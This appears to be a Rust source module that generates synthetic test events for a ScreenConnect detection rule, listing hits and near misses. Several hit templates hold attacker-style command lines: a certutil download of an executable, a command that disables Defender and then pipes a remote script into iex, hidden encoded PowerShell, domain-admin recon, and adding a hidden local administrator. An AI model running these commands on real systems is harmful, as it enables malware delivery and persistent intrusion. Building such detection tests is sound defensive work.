//! The events the corpus is searched for: hits of the bundled ScreenConnect rule, and events that
//! differ from a hit in one thing.

use super::catalogue::Account;
use super::fleet::{Fleet, Platform};
use super::record::{Action, Event, Process, Spelling};
use super::rng::Rng;
use super::template::{self, Names};
use super::truth::Verdict;
use super::workload::{self, Workload};

/// One way to be a hit or to miss being one.
#[derive(Debug)]
pub(super) struct Plant {
    /// What it shows; the truth file names it.
    pub(super) variant: &'static str,
    pub(super) verdict: Verdict,
    platform: Platform,
    action: Action,
    parent: &'static str,
    effective_parent: Option<&'static str>,
    directory: &'static str,
    name: &'static str,
    original_file_name: &'static str,
    command_line: &'static str,
    spelling: Spelling,
}

const SERVICE: &str = "ScreenConnect.Service.exe";
const PARENT_DIRECTORY: &str = r"C:\Program Files (x86)\ScreenConnect\";
const PARENT_COMMAND_LINE: &str =
    "\"{exe}\" \"?e=Access&y=Guest&h=remote.nordwerk.example&p=8041&s={guid}&k={b64}\"";
const SYSTEM32: &str = r"C:\Windows\System32\";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\";
const CONTENT: &str = r"C:\Program Files (x86)\ScreenConnect\App_Extensions\{guid}\";

/// The plainest hit; the others say what they change.
const CMD: Plant = Plant {
    variant: "cmd",
    verdict: Verdict::Hit,
    platform: Platform::Windows,
    action: Action::Start,
    parent: SERVICE,
    effective_parent: None,
    directory: SYSTEM32,
    name: "cmd.exe",
    original_file_name: "Cmd.Exe",
    command_line: r#""{exe}" /c "whoami /all > C:\Windows\Temp\{h8}.txt & net group "Domain Admins" /domain""#,
    spelling: Spelling::Plain,
};

const POWERSHELL_HIT: Plant = Plant {
    variant: "powershell",
    directory: POWERSHELL,
    name: "powershell.exe",
    original_file_name: "PowerShell.EXE",
    command_line: "{exe} -nop -w hidden -ep bypass -enc {b160}",
    ..CMD
};

const CSC: Plant = Plant {
    variant: "csc",
    directory: r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\",
    name: "csc.exe",
    original_file_name: "csc.exe",
    command_line: r#""{exe}" /noconfig /t:library /out:"C:\Windows\Temp\{word}{n4}.dll" "C:\Windows\Temp\{h8}.cs""#,
    ..CMD
};

const RENAMED: Plant = Plant {
    variant: "renamed_cmd",
    directory: r"C:\ProgramData\{word}\",
    name: "taskhelper.exe",
    original_file_name: "cmd.exe",
    command_line: "\"{exe}\" /c \"certutil -urlcache -split -f http://203.0.113.{n2}/{h16} %TEMP%\\{h8}.exe\"",
    ..CMD
};

const MISS: Plant = Plant { verdict: Verdict::Miss, ..CMD };

static HITS: &[Plant] = &[
    CMD,
    POWERSHELL_HIT,
    Plant { variant: "escaped_initial", spelling: Spelling::EscapedInitial, ..POWERSHELL_HIT },
    RENAMED,
    Plant {
        variant: "pwsh",
        directory: r"C:\Program Files\PowerShell\7\",
        name: "pwsh.exe",
        original_file_name: "pwsh.dll",
        command_line: "\"{exe}\" -NonInteractive -Command \"Set-MpPreference -DisableRealtimeMonitoring $true; iwr http://198.51.100.{n2}:8080/{word}.ps1 | iex\"",
        ..CMD
    },
    Plant { variant: "dotted_keys", spelling: Spelling::DottedKeys, ..CMD },
    CSC,
    Plant { variant: "escaped_throughout", spelling: Spelling::EscapedThroughout, ..CMD },
    Plant { variant: "renamed_powershell", original_file_name: "powershell.exe", ..RENAMED },
    Plant { variant: "two_types", spelling: Spelling::TwoTypes, ..POWERSHELL_HIT },
    Plant {
        variant: "powershell_ise",
        directory: POWERSHELL,
        name: "powershell_ise.exe",
        original_file_name: "powershell_ise.EXE",
        command_line: "\"{exe}\" -File \"C:\\Windows\\Temp\\{word}-{h8}.ps1\"",
        ..CMD
    },
    Plant { variant: "escaped_key", spelling: Spelling::EscapedKey, ..CSC },
    Plant { variant: "renamed_pwsh", original_file_name: "pwsh.dll", ..RENAMED },
    Plant {
        variant: "webshell_cmd",
        command_line: r#""{exe}" /c "cd /d "C:\Program Files (x86)\ScreenConnect\App_Extensions" & dir /s *.ashx & net user {word}$ {b120} /add & net localgroup administrators {word}$ /add""#,
        ..CMD
    },
    Plant { variant: "renamed_powershell_ise", original_file_name: "powershell_ise.exe", ..RENAMED },
];

static NEAR_MISSES: &[Plant] = &[
    Plant { variant: "client_service_parent", parent: "ScreenConnect.ClientService.exe", ..MISS },
    Plant { variant: "end", action: Action::End, ..MISS },
    Plant {
        variant: "child_not_listed",
        directory: PARENT_DIRECTORY,
        name: "ScreenConnect.WindowsClient.exe",
        original_file_name: "ScreenConnect.WindowsClient.exe",
        command_line: "\"{exe}\" \"RunRole\" \"{guid}\" \"User\"",
        ..MISS
    },
    Plant {
        variant: "original_file_name_case",
        verdict: Verdict::CompanionHit,
        original_file_name: "Cmd.Exe",
        ..RENAMED
    },
    Plant { variant: "already_running", action: Action::AlreadyRunning, ..MISS },
    Plant { variant: "grandparent", parent: "svchost.exe", effective_parent: Some(SERVICE), ..MISS },
    Plant {
        variant: "as_process",
        parent: "services.exe",
        directory: PARENT_DIRECTORY,
        name: SERVICE,
        original_file_name: SERVICE,
        command_line: PARENT_COMMAND_LINE,
        ..MISS
    },
    Plant { variant: "linux_host", platform: Platform::Linux, directory: "/opt/screenconnect/", ..MISS },
    Plant {
        variant: "in_command_line",
        parent: "explorer.exe",
        command_line: "\"{exe}\" /c \"tasklist /fi \"imagename eq ScreenConnect.Service.exe\" /fo csv\"",
        ..MISS
    },
    Plant { variant: "longer_name", parent: "ScreenConnect.Service.exe.bak", ..MISS },
    Plant {
        variant: "original_file_name_case",
        verdict: Verdict::CompanionHit,
        original_file_name: "PowerShell.EXE",
        ..RENAMED
    },
    Plant {
        variant: "discovery_child",
        name: "whoami.exe",
        original_file_name: "whoami.exe",
        command_line: "\"{exe}\" /groups /fo csv",
        ..MISS
    },
    Plant {
        variant: "content_in_path",
        parent: "w3wp.exe",
        directory: CONTENT,
        name: "ScreenConnect.Service.exe.config.exe",
        original_file_name: "",
        command_line: "\"{exe}\" --install",
        ..MISS
    },
];

/// The `nth` hit; consecutive ones go through all variants.
pub(super) fn hit(nth: u64) -> &'static Plant {
    cycle(HITS, nth)
}

/// The `nth` near miss; consecutive ones go through all variants.
pub(super) fn near_miss(nth: u64) -> &'static Plant {
    cycle(NEAR_MISSES, nth)
}

fn cycle(plants: &'static [Plant], nth: u64) -> &'static Plant {
    let place = usize::try_from(nth % plants.len() as u64).unwrap_or(0);
    &plants[place]
}

impl Plant {
    /// The event with the given place and time that shows this plant.
    pub(super) fn event<'a>(
        &self,
        (fleet, workload): (&'a Fleet, &'a Workload),
        (index, time): (u64, u64),
        rng: &mut Rng,
    ) -> Event<'a> {
        let host = fleet.of_platform(self.platform, rng);
        let file_json = workload.file_json(host, self.name);
        let user = host.user.name.as_str();
        let run = |name: &str, directory: &str, command_line: &str, rng: &mut Rng| {
            let name = vary_case(name, rng);
            let mut executable = Vec::new();
            template::fill(&mut executable, directory, Names { executable: b"", user }, rng);
            executable.extend_from_slice(name.as_bytes());
            let mut filled = Vec::new();
            template::fill(&mut filled, command_line, Names { executable: &executable, user }, rng);
            (name, executable, filled)
        };
        let child = run(self.name, self.directory, self.command_line, rng);
        let parent = run(self.parent, self.parent_directory(), self.parent_command_line(), rng);
        let as_process = |(name, executable, command_line), instance, original_file_name| Process {
            instance,
            name,
            executable,
            command_line,
            original_file_name,
            file_json,
        };
        Event {
            index,
            time,
            action: self.action,
            host,
            user: workload.user(host, Account::System),
            process: as_process(child, workload::fresh_instance(time, rng), self.original_file_name),
            parent: as_process(parent, workload::instance_of(host, usize::MAX, time), ""),
            ancestors: workload.ancestors(host, time),
            effective_parent: self.effective_parent,
            spelling: self.spelling,
        }
    }

    fn is_below_screenconnect(&self) -> bool {
        self.parent.starts_with("ScreenConnect")
    }

    fn parent_directory(&self) -> &'static str {
        match self.platform {
            Platform::Linux => "/opt/screenconnect/",
            Platform::Windows if self.is_below_screenconnect() => PARENT_DIRECTORY,
            Platform::Windows => SYSTEM32,
        }
    }

    fn parent_command_line(&self) -> &'static str {
        if self.is_below_screenconnect() { PARENT_COMMAND_LINE } else { "{exe}" }
    }
}

/// The same name to Windows, as attackers and installers spell it.
fn vary_case(name: &str, rng: &mut Rng) -> String {
    match rng.below(5) {
        0 => name.to_ascii_lowercase(),
        1 => name.to_ascii_uppercase(),
        2 => name
            .chars()
            .map(|letter| if rng.one_in(2) { letter.to_ascii_uppercase() } else { letter })
            .collect(),
        _ => name.to_owned(),
    }
}
